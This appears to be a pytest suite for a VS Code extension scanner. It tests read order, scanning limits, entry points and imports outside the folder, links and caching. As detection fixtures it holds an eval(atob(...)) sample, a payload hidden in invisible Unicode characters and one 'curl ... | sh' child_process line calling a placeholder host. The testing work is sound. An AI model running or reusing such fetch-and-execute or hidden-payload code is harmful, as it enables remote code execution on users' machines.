"""What is read first: what the editor loads, then code, then the rest; and what is outside."""

import json
import stat
import time
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from tests.archives import PACKAGE, Member, zipped
from tests.builders import extension, install, pack
from tests.other_systems import make_pipe
from tests.unit.test_extension_files import in_time  # noqa: F401 - a fixture for every test
from tests.unit.test_installed_extensions import public, unprivileged  # noqa: F401 - a fixture
from vscan.extension_files import (
    MAX_DEPTH,
    MAX_FILES,
    OVERLAP_BYTES,
    WINDOW_BYTES,
    Entry,
    LoadedPaths,
    Window,
    entry_points,
    open_extension,
    read_manifest,
)
from vscan.model import CacheKey, Extension, Scanned, Severity, Task, Verdict
from vscan.providers.offline import Offline
from vscan.providers.offline.analyser import Analyser
from vscan.providers.offline.extension_digest import digest

HIDDEN = "".join(chr(0xFE00 + n % 16) for n in b"a payload that does no harm")
EVAL = 'eval(atob("Y29uc29sZS5sb2coMSk="));\n'
Files = Mapping[str, bytes | str]


def put(place: Path, files: Files) -> None:
    for name, content in files.items():
        path = place / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)


def unpacked(directory: Path, files: Files, **manifest: Any) -> Path:
    place = install(directory, **manifest)
    put(place, files)
    return place


def packed(directory: Path, files: Files, **manifest: Any) -> Path:
    content = {n: c.encode() if isinstance(c, str) else c for n, c in files.items()}
    return pack(directory, files=content, **manifest)


FORMS = pytest.mark.parametrize("form", [unpacked, packed])
Form = Callable[..., Path]


def order(root: Path) -> list[str]:
    """Name the files in the order in which an analysis reads them."""
    loaded_paths = LoadedPaths(read_manifest(root))
    names = []
    for window in open_extension(root).windows(loaded_paths):
        names.append(window.entry.name)
        loaded_paths.add_window(window)
    assert len(names) == len(set(names))
    return [name for name in names if name not in {"package.json", ".vsixmanifest"}]


def there(root: Path) -> Extension:
    return replace(extension(), root=root)


def analysed(root: Path) -> Verdict:
    outcome = Analyser(None).ask(Task("offline", (there(root),)), 0, None)
    assert isinstance(outcome, Scanned)
    return outcome.verdict


def remembered(root: Path, verdict: Verdict) -> CacheKey | None:
    return Offline(None).key_of(there(root), verdict)


@FORMS
@pytest.mark.parametrize(
    ("entry", "file"),
    [
        ("./out/program.cjs", "out/program.cjs"),
        ("out/program", "out/program.cjs"),
        ("/lib/main", "lib/main.js"),
        (".\\lib\\main.js", "lib/main.js"),
        ("lib", "lib/index.js"),
        ("./lib/", "lib/index.js"),
        (".", "index.js"),
        ("./data.json", "data.json"),
        ("native", "native.node"),
        ("picture.png", "picture.png"),
        ("lib/../out/program.cjs", "out/program.cjs"),
        ("deep", "deep/inner/start.js"),  # as its package.json says
    ],
)
def test_an_entry_point_is_found_as_node_finds_it(
    tmp_path: Path, form: Form, entry: str, file: str
) -> None:
    names = ("a.js", "out/program.cjs", "lib/main.js", "lib/index.js", "index.js", "data.json",
             "native.node", "picture.png", "deep/inner/start.js")  # fmt: skip
    inner = {"deep/package.json": '{"main": "./inner/start"}'}
    root = form(tmp_path, {**dict.fromkeys(names, ""), **inner, "main.js": ""}, main=entry)
    assert order(root)[0] == file


@FORMS
def test_loaded_files_come_first_then_code_then_the_rest(tmp_path: Path, form: Form) -> None:
    files = {
        "a.txt": "",
        "b.js": "",
        "z/main.js": "const a = require('./deep/one'); import(`../x.bin`)",
        "z/deep/one.mjs": 'import "../../y/"; const no = "./none"',
        "y/index.js": 'new Worker(new URL("./worker.dat?x", import.meta.url))',
        "y/worker.dat": "require('./worker.dat')",
        "x.bin": "",
    }
    files["z/deep/one.js"] = files.pop("z/deep/one.mjs")
    root = form(tmp_path, files, main="./z/main.js")
    loaded = ["z/main.js", "z/deep/one.js", "x.bin", "y/index.js", "y/worker.dat"]
    assert [name for name in order(root) if name != "main.js"] == [*loaded, "b.js", "a.txt"]


def test_case_does_not_count_in_an_archive(tmp_path: Path) -> None:
    """It may be unpacked on Windows or macOS."""
    root = packed(tmp_path, {"Lib/Main.js": ""}, main="./lib/main")
    assert order(root)[0] == "Lib/Main.js"


@FORMS
@pytest.mark.parametrize("entry", ["./gone.js", "\0", "x" * 5000, "\ud800", "a\nb", ".", "..a"])
def test_a_missing_entry_point_is_no_gap(tmp_path: Path, form: Form, entry: str) -> None:
    """The editor fails to start it: there is nothing to run."""
    verdict = analysed(form(tmp_path, {}, main=entry))
    assert (verdict.gap_texts, verdict.findings) == ((), ())
    assert verdict.digest


# Limits


def many(directory: Path, payload: bytes) -> Path:
    """Pack a program whose payload comes last, behind more files than are read."""
    path = directory / "acme.tools-1.0.0.vsix"
    decoys = (Member(f"extension/a/{n}", b"", 0) for n in range(MAX_FILES))
    main = Member("extension/main.js", b"import './z.svg'")
    path.write_bytes(zipped(PACKAGE, *decoys, main, Member("extension/z.svg", payload)))
    return path


@pytest.mark.full
def test_files_beyond_the_limit_hide_nothing_that_is_loaded(tmp_path: Path) -> None:
    verdict = analysed(many(tmp_path, HIDDEN.encode()))
    assert [finding.file for finding in verdict.findings] == ["z.svg"]
    assert verdict.gap_texts == (f"it has more than {MAX_FILES} files",)


@pytest.mark.full
def test_a_verdict_about_a_part_is_not_cached(tmp_path: Path) -> None:
    """What was not read may change, and with it, what is to be said."""
    root = many(tmp_path, b"harmless")
    verdict = analysed(root)
    assert verdict.gap_texts
    assert remembered(root, verdict) is None
    asked = Offline(None).key(there(root)).digest
    assert asked == "unfinished"


def test_depth_hides_no_entry_point(tmp_path: Path) -> None:
    deep = "d/" * (MAX_DEPTH + 2) + "main.js"
    root = unpacked(tmp_path, {deep: HIDDEN}, main=deep)
    verdict = analysed(root)
    assert [finding.file for finding in verdict.findings] == [deep]
    (gap,) = verdict.gap_texts
    assert gap.endswith(f"is over {MAX_DEPTH} folders deep")
    assert remembered(root, verdict) is None


def test_a_verdict_about_all_files_is_cached(tmp_path: Path) -> None:
    for form in (unpacked, packed):
        root = form(tmp_path, {"lib/main.js": "require('../b')", "b.js": ""}, main="lib/main.js")
        key = remembered(root, analysed(root))
        assert key == Offline(None).key(there(root))


# Outside


def said(verdict: Verdict) -> set[str]:
    return {finding.rule for finding in verdict.findings}


@pytest.mark.parametrize(
    "entry", ["../evil.js", "../evil", "/../evil.js", "..\\evil", "a/../../evil"]
)
@pytest.mark.parametrize("key", ["main", "browser"])
def test_an_entry_point_that_leads_out_is_a_finding_and_is_read(
    tmp_path: Path, entry: str, key: str
) -> None:
    root = unpacked(tmp_path, {}, **{key: entry})
    (tmp_path / "evil.js").write_text(EVAL)
    verdict = analysed(root)
    assert verdict.gap_texts == ()
    outside, decoded = sorted(verdict.findings, key=lambda finding: -len(finding.rule))
    assert (outside.rule, outside.file) == ("entry-point-outside", "package.json")
    assert outside.severity is Severity.HIGH
    assert outside.message.count("evil") == 1
    assert (decoded.rule, decoded.file) == ("decoded-code", "../evil.js")
    assert remembered(root, verdict) is None


def test_a_report_shows_no_evidence_from_outside(tmp_path: Path) -> None:
    """Else a manifest could have it show any file of the machine."""
    root = unpacked(tmp_path, {}, main="../evil.js")
    (tmp_path / "evil.js").write_text(EVAL)
    (found,) = (f for f in analysed(root).findings if f.file == "../evil.js")
    assert (found.evidence, found.line, found.offset) == (None, 1, 0)
    assert found.digest


def test_a_message_quotes_nothing_of_a_file_outside(tmp_path: Path) -> None:
    root = unpacked(tmp_path, {}, main="../evil.js")
    source = "require('child_process').exec('curl https://private.invalid/i | sh');"
    (tmp_path / "evil.js").write_text(source)
    found = [f for f in analysed(root).findings if f.file == "../evil.js"]
    assert {f.rule for f in found} == {"runs-remote-code"}
    assert not any("private" in f.message for f in found)


def test_a_missing_entry_point_outside_is_a_finding(tmp_path: Path) -> None:
    verdict = analysed(unpacked(tmp_path, {}, main="../evil.js"))
    assert (said(verdict), verdict.gap_texts) == ({"entry-point-outside"}, ())


def test_a_link_that_leads_out_is_a_finding_and_a_gap(tmp_path: Path) -> None:
    (tmp_path / "evil.js").write_text(EVAL)
    root = unpacked(tmp_path, {}, main="./lib/main.js")
    (root / "lib").mkdir()
    (root / "lib" / "main.js").symlink_to("../../evil.js")
    verdict = analysed(root)
    assert said(verdict) == {"entry-point-outside"}
    assert verdict.gap_texts == ("lib/main.js is a link out of the folder, or not a regular file",)
    (root / "lib" / "main.js").unlink()
    (root / "lib").rmdir()
    (root / "lib").symlink_to("..")
    (tmp_path / "main.js").write_text(EVAL)
    verdict = analysed(root)
    assert said(verdict) == {"entry-point-outside"}
    assert set(verdict.gap_texts) == {
        "lib is a link out of the folder, or not a regular file",
        "lib/main.js is a link out of the folder, or not a regular file",
    }


def test_an_entry_point_through_a_link_inside_is_no_finding(tmp_path: Path) -> None:
    root = unpacked(tmp_path, {"z.bin": HIDDEN}, main="./main.js")
    (root / "main.js").symlink_to("z.bin")
    verdict = analysed(root)
    assert (said(verdict), verdict.gap_texts) == ({"invisible-payload"}, ())
    assert order(root) == ["z.bin"]
    assert remembered(root, verdict) == Offline(None).key(there(root))


@pytest.mark.parametrize("make", [make_pipe, lambda path: path.symlink_to("/dev/zero")])
@pytest.mark.parametrize("entry", ["main.js", "../main.js"])
def test_an_entry_point_that_is_not_a_regular_file_is_a_gap(
    tmp_path: Path, make: Callable[[Path], object], entry: str
) -> None:
    root = unpacked(tmp_path, {}, main=entry)
    make(root / entry)
    assert f"{entry} is a link out of the folder, or not a regular file" in analysed(root).gap_texts


def test_an_entry_point_that_may_not_be_read_is_a_gap(public: Path) -> None:  # noqa: F811 - the fixture
    """As one with the mode 0600, of somebody whose umask is 077."""
    root = unpacked(public, {"main.js": EVAL, "lib/x.js": EVAL}, main="main", browser="lib/x")
    (root / "main.js").chmod(0o600)
    (root / "lib").chmod(0o700)
    with unprivileged():
        verdict = analysed(root)
    assert "main.js can't be read: permission denied" in verdict.gap_texts
    assert "lib/x.js can't be read: permission denied" in verdict.gap_texts


def test_an_entry_point_outside_of_an_archive_is_a_finding_and_a_gap(tmp_path: Path) -> None:
    (tmp_path / "evil.js").write_text(EVAL)
    root = packed(tmp_path, {}, main="../evil.js")
    verdict = analysed(root)
    assert said(verdict) == {"entry-point-outside"}
    assert verdict.gap_texts == ("../evil.js, which it runs, is not in the archive",)
    assert remembered(root, verdict) == Offline(None).key(there(root))


# What a digest tells apart


def test_a_folder_and_an_archive_of_the_same_files_do_not_share_a_verdict(tmp_path: Path) -> None:
    root = packed(tmp_path, {"b.js": ""})
    other = tmp_path / "acme.tools-1.0.0"
    for window in open_extension(root).windows():
        put(other, {window.entry.name: window.content})
    assert digest(there(root)) != digest(there(other))


def test_of_two_members_with_one_name_the_order_counts(tmp_path: Path) -> None:
    """The editor leaves the last one on disk."""
    digests = set()
    for contents in ((b"a", b"b"), (b"b", b"a")):
        path = tmp_path / "x.vsix"
        members = (Member("extension/main.js", content) for content in contents)
        path.write_bytes(zipped(PACKAGE, *members))
        verdict = analysed(path)
        assert verdict.digest == digest(there(path))
        digests.add(verdict.digest)
    assert len(digests) == 2


@FORMS
def test_the_order_of_reading_does_not_change_the_digest(tmp_path: Path, form: Form) -> None:
    files = {"a.txt": HIDDEN, "b.js": "x", "z.js": "require('./a.txt')"}
    root = form(tmp_path, files, main="z.js")
    assert analysed(root).digest == digest(there(root))


@pytest.mark.nightly
@pytest.mark.parametrize("text", ["./", "'./", '"../x', "'../" + "a" * 299, "`.", "'./a'"])
def test_eight_times_the_text_takes_no_more_than_some_eight_times_as_long(text: str) -> None:
    spent = []
    for size in (1024**2 // 4, 2 * 1024**2):
        content = (text.encode() * (size // len(text) + 1))[:size]
        window = Window(Entry("main.js", size), content, 0, 1, size)
        best = []
        for _ in range(3):
            began = time.process_time()
            LoadedPaths({"main": "main.js"}).add_window(window)
            best.append(time.process_time() - began)
        spent.append(min(best))
    small, large = spent
    assert large < 24 * max(small, 0.005)


def test_the_number_of_manifests_read_for_loaded_folders_is_bounded(tmp_path: Path) -> None:
    """To parse what each says costs time."""
    names = [f"{number:03}" for number in range(300)]
    files = {f"{name}/package.json": '{"main": "x.bin"}' for name in names}
    files |= {f"{name}/x.bin": "" for name in names}
    files["main.js"] = "".join(f"require('./{name}');" for name in names)
    first = order(unpacked(tmp_path, files, main="main.js"))[:250]
    loaded = [name for name in first if name.endswith(".bin")]
    assert 100 < len(loaded) <= 200


def test_evidence_from_a_member_outside_is_shown(tmp_path: Path) -> None:
    path = tmp_path / "x.vsix"
    path.write_bytes(zipped(PACKAGE, Member("extension/../x.js", b"x", header_name="y")))
    shown = [finding.evidence for finding in analysed(path).findings if finding.file == "../x.js"]
    assert "in front of it stands y" in shown


@pytest.mark.parametrize(
    "text",
    [
        "require('../evil')",
        "import x from '../evil.js'",
        "import('../evil.js')",
        "require( `../evil` )",
    ],
)
def test_an_import_from_outside_is_a_gap_and_never_cached(tmp_path: Path, text: str) -> None:
    """It is another's file today, and may be another file tomorrow."""
    root = unpacked(tmp_path, {"main.js": text}, main="main.js")
    absent = analysed(root)
    assert (absent.gap_texts, remembered(root, absent)) == ((), None)
    (tmp_path / "evil.js").write_text(EVAL)
    verdict = analysed(root)
    (gap,) = verdict.gap_texts
    assert gap.startswith("main.js loads ../evil")
    assert gap.endswith(", which is outside of the folder")
    assert remembered(root, verdict) is None


def test_imports_of_an_entry_point_outside_are_a_gap(tmp_path: Path) -> None:
    (tmp_path / "x.js").write_text("require('./evil.js')")
    (tmp_path / "evil.js").write_text(EVAL)
    verdict = analysed(unpacked(tmp_path, {}, main="../x.js"))
    assert verdict.gap_texts == ("../x.js loads ../evil.js, which is outside of the folder",)


def test_a_path_that_is_not_imported_is_no_gap(tmp_path: Path) -> None:
    """Bundles name paths of the machine that made them."""
    (tmp_path / "x").write_text("1")
    root = unpacked(tmp_path, {"main.js": "join(d, '../x'); s.startsWith('../')"}, main="main.js")
    verdict = analysed(root)
    assert verdict.gap_texts == ()
    assert remembered(root, verdict) is not None


def test_files_beside_an_archive_are_ignored(tmp_path: Path) -> None:
    """Nothing of it is installed: text that names it, as a comment of JSDoc, is no gap."""
    text = '/** @type {import("../../types").T} */ try { require("../package.json") } catch {}'
    root = packed(tmp_path, {"main.js": text}, main="main.js")
    assert analysed(root).gap_texts == ()


OUTSIDE: dict[str, tuple[dict[str, str], dict[str, Any], dict[str, str]]] = {
    "a folder with a package.json": (
        {"main.js": "require('../.hidden')"},
        {},
        {".hidden/package.json": '{"main": "lib/a.js"}', ".hidden/lib/a.js": EVAL},
    ),
    "two dots alone": ({"main.js": "require('..')"}, {}, {"index.js": EVAL}),
    "by the package.json of a folder inside": (
        {"main.js": "require('./lib')", "lib/package.json": '{"main": "../../evil"}'},
        {},
        {"evil.js": EVAL},
    ),
    "an entry point by the package.json of a folder inside": (
        {"lib/package.json": '{"main": "../../evil"}'},
        {"main": "./lib"},
        {"evil.js": "require('./more')", "more.js": EVAL},
    ),
    "an entry point that is a folder with a package.json": (
        {},
        {"main": "../.hidden"},
        {".hidden/package.json": '{"main": "lib/a.js"}', ".hidden/lib/a.js": EVAL},
    ),
    "from a package that no relative path leads to": (
        {"main.js": "require('dep')", "node_modules/dep/index.js": "require('../../../evil')"},
        {},
        {"evil.js": EVAL},
    ),
    "by a long path": ({"main.js": f"require('../{'./' * 500}evil')"}, {}, {"evil.js": EVAL}),
    "across the border of two windows": (
        {"main.js": f"{' ' * (WINDOW_BYTES - OVERLAP_BYTES - 12)}require('../evil')" + " " * 2**20},
        {},
        {"evil.js": EVAL},
    ),
}


@pytest.mark.full
@pytest.mark.parametrize("case", OUTSIDE)
def test_every_form_of_import_from_outside_is_a_gap(tmp_path: Path, case: str) -> None:
    files, manifest, beside = OUTSIDE[case]
    root = unpacked(tmp_path / "x", files, **({"main": "main.js"} | manifest))
    put(tmp_path / "x", beside)
    verdict = analysed(root)
    assert verdict.gap_texts
    assert remembered(root, verdict) is None


def test_a_path_without_permission_may_exist(public: Path) -> None:  # noqa: F811 - the fixture
    root = unpacked(public, {"main.js": "require('../closed/evil')"}, main="main.js")
    put(public, {"closed/evil.js": EVAL})
    (public / "closed").chmod(0)
    with unprivileged():
        assert len(analysed(root).gaps) == 1


def test_a_verdict_with_an_entry_point_outside_is_never_cached(
    tmp_path: Path,
) -> None:
    root = unpacked(tmp_path, {}, main="../evil.js")
    assert remembered(root, analysed(root)) is None


def test_another_program_outside_makes_another_finding(tmp_path: Path) -> None:
    root = unpacked(tmp_path, {}, main="../evil.js")
    digests = set()
    for text in ("1", "2"):
        (tmp_path / "evil.js").write_text(text)
        (finding,) = analysed(root).findings
        digests.add(finding.digest)
    assert len(digests) == 2


@pytest.mark.parametrize("name", ["out/main.js", "out"])
@pytest.mark.parametrize("kind", [stat.S_IFLNK, stat.S_IFIFO, stat.S_IFCHR])
def test_a_linked_entry_point_of_an_archive_is_a_gap(tmp_path: Path, name: str, kind: int) -> None:
    path = tmp_path / "x.vsix"
    manifest = json.dumps(
        {"publisher": "acme", "name": "x", "version": "1.0.0", "main": "./out/main", "engines": {}}
    )
    odd = Member(f"extension/{name}", b"/tmp/evil.js", mode=kind | 0o644)
    path.write_bytes(zipped(Member("extension/package.json", manifest.encode()), odd))
    gaps = analysed(path).gap_texts
    assert any(gap.endswith("is a link, or not a regular file") for gap in gaps)


@pytest.mark.full
def test_more_paths_outside_than_are_looked_up_are_a_gap(tmp_path: Path) -> None:
    decoys = "".join(f"require('../{number}');" for number in range(10_001))
    (tmp_path / "10000.js").write_text(EVAL)
    verdict = analysed(unpacked(tmp_path, {"main.js": decoys}, main="main.js"))
    assert verdict.gap_texts == ("it loads more than 10000 paths outside of it",)


def test_a_partly_unpacked_member_is_not_cached(tmp_path: Path) -> None:
    path = tmp_path / "x.vsix"
    path.write_bytes(zipped(PACKAGE, Member("extension/a.js", bytes(40 * 1024**2))))
    verdict = analysed(path)
    assert verdict.gap_texts == ("a.js unpacks to over 100 times its size",)
    assert remembered(path, verdict) is None


def test_the_order_of_anomalies_does_not_change_the_digest(tmp_path: Path) -> None:
    path = tmp_path / "x.vsix"
    members = (Member(f"extension/{name}.js", b"x", checksum=1) for name in ("a", "main"))
    path.write_bytes(zipped(PACKAGE, *members))
    assert order(path) == ["main.js", "a.js"]
    assert analysed(path).digest == digest(there(path))


@pytest.mark.parametrize(
    ("command", "path"),
    [
        ("node ./dist/un.js", "dist/un.js"),
        ("node dist\\un --quiet", "dist/un"),
        ("node /un.js", "un.js"),
        ("node ../other/un.js", "../other/un.js"),
        ("node  ./un.js", None),  # the editor takes the second word, which is empty
        ("nodejs un.js", None),
        ("node", None),
        ("", None),
        (["node", "un.js"], None),
    ],
)
def test_the_editor_runs_the_script_of_the_uninstallation(command: Any, path: str | None) -> None:
    manifest = {
        "main": "a.js",
        "scripts": {"vscode:uninstall": command, "postinstall": "node b.js"},
    }
    assert list(entry_points(manifest)) == ["a.js", *([path] if path else [])]
    assert list(entry_points({"scripts": command})) == []
